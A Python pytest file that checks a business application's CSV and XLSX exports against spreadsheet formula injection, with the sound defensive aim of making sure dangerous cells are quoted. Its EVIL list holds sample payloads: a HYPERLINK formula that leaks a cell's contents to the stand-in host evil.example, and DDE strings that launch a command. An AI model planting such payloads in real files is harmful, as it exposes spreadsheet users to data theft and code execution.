"""No exported cell becomes a formula (issue 18, OWASP "CSV injection"), through every export
a user can make: the journal, the client directory, the task report, a report from the
command line and from the reports form. Text that a user or an imported file put in the
database starts with =, +, -, @, a tab or a carriage return; the files are read back with
openpyxl and csv. A phone number typed as "+7 999 123-45-67" stays as typed."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from sqlalchemy import select, update

from app.cell_text import csv_value, formula_like
from app.clients.directory import ClientFilter
from app.clients.export import export_clients
from app.database import Database
from app.journal.export import export_rows
from app.journal.filter import JournalFilter
from app.messages import Message
from app.reports import Breakdown, ReportParams
from app.reports import export as report_export
from app.reports.result import Column, ColumnKind, ReportHeader, ReportResult
from app.table_export import write_table
from models import Call, Client, Phone, Role
from tests.support.clock_support import NOW
from tests.support.ui_support import user_with_role

pytestmark = pytest.mark.seed(calls=40, clients=10, days=2, seed=5)

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+7 999 cmd",  # a letter: not a phone number any more
]
PHONES = ["+7 999 123-45-67", "+7 (999) 123-45-67", "-5", "+380441234567"]
HARMLESS = ["ООО «Ромашка»", "a=b", "", "#N/A", "1+1"]


@pytest.mark.parametrize("text", EVIL)
def test_text_that_starts_like_a_formula_is_quoted_in_csv(text: str) -> None:
    assert formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("text", PHONES + HARMLESS)
def test_phone_numbers_and_plain_text_are_left_as_typed(text: str) -> None:
    assert csv_value(text) == text


def test_values_that_are_not_text_are_left_alone() -> None:
    assert csv_value(-5) == -5 and csv_value(None) is None


def _csv(path: Path, delimiter: str = ";") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def _xlsx_cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    try:
        return [c for row in book.active.iter_rows() for c in row if c.value is not None]
    finally:
        book.close()


def _check_files(csv_path: Path, xlsx_path: Path, delimiter: str = ";") -> None:
    """Every evil text is quoted in the csv and a plain string cell in the xlsx; phone
    numbers are exactly as typed in both."""
    flat = [v for row in _csv(csv_path, delimiter) for v in row]
    for text in EVIL:
        assert "'" + text in flat, text
        assert text not in flat, text
    for phone in PHONES[:2]:
        assert phone in flat, phone
    cells = {c.value: c for c in _xlsx_cells(xlsx_path)}
    for text in EVIL + PHONES[:2]:
        # XML reads a lone carriage return back as a line feed (end-of-line normalisation).
        cell = cells[text.replace("\r", "\n")]
        assert cell.data_type == "s", text
        assert cell.quotePrefix == (text in EVIL), text
    assert not any(c.data_type == "f" for c in cells.values())


def test_the_shared_table_writer(tmp_path: Path) -> None:
    rows = [[t, p] for t, p in zip(EVIL, PHONES * 2, strict=False)] + [
        [h, ""] for h in [*HARMLESS, "="]
    ]
    for fmt in ("csv", "xlsx"):
        write_table(
            tmp_path / f"t.{fmt}",
            fmt,
            ["Name", "Phone"],
            [rows],
            sheet_title="Clients",
            too_many_rows=Message("too many"),
        )
    _check_files(tmp_path / "t.csv", tmp_path / "t.xlsx")
    cells = {c.value: c for c in _xlsx_cells(tmp_path / "t.xlsx")}
    assert cells["#N/A"].data_type == "s" and cells["="].data_type == "s"


def _poison(db: Database) -> None:
    """Evil names, comments and contact numbers in the database, as an import or a paste
    would leave them."""
    with db.transaction() as s:
        clients = list(s.scalars(select(Client.id).order_by(Client.id)))
        calls = list(s.scalars(select(Call.id).where(Call.client_id.is_not(None)).limit(7)))
    assert len(clients) >= len(EVIL) and len(calls) == len(EVIL)

    def write(s: Any) -> None:
        for client_id, text in zip(clients, EVIL, strict=False):
            s.execute(update(Client).where(Client.id == client_id).values(display_name=text))
        for call_id, text in zip(calls, EVIL, strict=True):
            s.execute(update(Call).where(Call.id == call_id).values(comment=text))
        for call_id, phone in zip(calls, PHONES[:2], strict=False):
            s.execute(update(Call).where(Call.id == call_id).values(external_number=phone))
        first = s.scalar(select(Phone.id).where(Phone.client_id == clients[0]))
        if first is not None:
            s.execute(update(Phone).where(Phone.id == first).values(number=PHONES[0]))
        s.execute(update(Client).where(Client.id == clients[1]).values(email=PHONES[1]))

    db.write(write)


def test_journal_and_client_exports(db: Database, tmp_path: Path) -> None:
    _poison(db)
    sup = user_with_role(db, Role.SUPERVISOR)
    flt = JournalFilter(NOW - timedelta(days=5), NOW + timedelta(days=1), show_internal=True)
    with db.engine.connect() as conn:
        for fmt in ("csv", "xlsx"):
            export_rows(conn, flt, sup, tmp_path / f"calls.{fmt}", fmt)
    _check_files(tmp_path / "calls.csv", tmp_path / "calls.xlsx")
    admin = user_with_role(db, Role.ADMIN)
    with db.engine.connect() as conn:
        for fmt in ("csv", "xlsx"):
            export_clients(conn, ClientFilter(), admin, tmp_path / f"clients.{fmt}", fmt)  # type: ignore[arg-type]
    flat = [v for row in _csv(tmp_path / "clients.csv") for v in row]
    assert all("'" + text in flat and text not in flat for text in EVIL)
    assert PHONES[1] in flat  # the e-mail column: a value as typed stays as typed
    as_read = {text.replace("\r", "\n") for text in EVIL}
    cells = [c for c in _xlsx_cells(tmp_path / "clients.xlsx") if c.value in as_read]
    assert len(cells) == len(EVIL) and all(c.data_type == "s" and c.quotePrefix for c in cells)


def _report() -> ReportResult:
    params = ReportParams(NOW.date(), NOW.date(), breakdown=Breakdown.NONE)
    rows = [
        {"key": i, "client": text, "number": phone}
        for i, (text, phone) in enumerate(zip(EVIL, PHONES * 2, strict=False))
    ]
    return ReportResult(
        "detail",
        params,
        ReportHeader(NOW.date(), NOW.date(), "UTC", 20, 5),
        [Column("client", "Client", ColumnKind.TEXT), Column("number", "Number", ColumnKind.TEXT)],
        rows,
    )


def test_report_files_from_the_command_line(tmp_path: Path) -> None:
    report_export.write_csv(_report(), tmp_path / "r.csv")
    report_export.write_xlsx(_report(), tmp_path / "r.xlsx")
    _check_files(tmp_path / "r.csv", tmp_path / "r.xlsx", delimiter=",")


def test_report_files_from_the_reports_form(tmp_path: Path) -> None:
    from ui.reports import export as form_export

    form_export.write_csv(tmp_path / "r.csv", _report())
    form_export.write_xlsx(tmp_path / "r.xlsx", _report(), "=Report", "@header")
    _check_files(tmp_path / "r.csv", tmp_path / "r.xlsx")
    cells = {c.value: c for c in _xlsx_cells(tmp_path / "r.xlsx")}
    assert cells["=Report"].data_type == "s" and cells["@header"].quotePrefix
